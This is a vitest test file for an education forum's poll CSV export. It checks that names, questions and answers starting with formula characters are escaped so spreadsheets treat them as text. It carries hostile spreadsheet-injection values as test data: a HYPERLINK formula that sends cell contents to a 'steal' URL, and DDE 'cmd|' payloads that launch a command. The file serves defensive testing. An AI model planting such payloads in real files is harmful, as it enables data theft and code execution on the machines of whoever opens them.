import type { App } from '@app/platform';
import { createTestDatabase, type TestDatabase } from '@app/platform/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, listenEduforum, makeCourse, makePerson, makeSession } from '../test-support.js';

let database: TestDatabase;
let app: App;

beforeAll(async () => {
  database = await createTestDatabase();
  ({ app } = await listenEduforum(database.url));
});

afterAll(async () => {
  await app?.close();
  await database?.drop();
});

describe('poll export (CSV)', () => {
  it('writes names, questions and answers that look like formulas as text a spreadsheet will not run', async () => {
    const world = await makeCourse(app, 0);
    const link = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"click")';
    const mallory = await makePerson(app, link);
    const at = await makePerson(app, '@SUM(1+1)*cmd|" /C calc"!A0');
    const course = (await call(app, world.professor, 'GET', `/courses/${world.courseId}`)).json();
    for (const student of [mallory, at])
      await call(app, student, 'POST', '/enrollments', { inviteCode: course.inviteCode });
    const session = await makeSession(app, world);
    const poll = await call(app, world.professor, 'POST', `/sessions/${session.id}/polls`, {
      question: '+1 or -1?',
      kind: 'text',
    });
    const pollId = poll.json().id as string;
    await call(app, world.professor, 'POST', `/polls/${pollId}/open`);
    expect(
      (await call(app, mallory, 'PUT', `/polls/${pollId}/vote`, { text: '-2+3+cmd|x' })).statusCode,
    ).toBe(200);
    expect((await call(app, at, 'PUT', `/polls/${pollId}/vote`, { text: 'plain answer' })).statusCode).toBe(
      200,
    );

    const exported = await call(app, world.professor, 'GET', `/sessions/${session.id}/polls/export`);
    expect(exported.statusCode).toBe(200);
    const rows = parse(exported.body, { columns: true, bom: true }) as Record<string, string>[];
    const byEmail = (email: string) => rows.find((r) => r.student_email === email);
    expect(byEmail(mallory.email)).toMatchObject({
      student_name: `'${link}`,
      question: "'+1 or -1?",
      answer: "'-2+3+cmd|x",
    });
    expect(byEmail(at.email)).toMatchObject({ student_name: `'${at.name}`, answer: 'plain answer' });
    // Every text cell is quoted, so no delimiter or quote inside a name can start a new cell.
    expect(exported.body).toContain(`"'=HYPERLINK(""http://127.0.0.1/steal?d=""&A1,""click"")"`);
    expect(exported.body.split('\n').some((line) => /(^|,)[=+\-@]/.test(line))).toBe(false);
  });
});
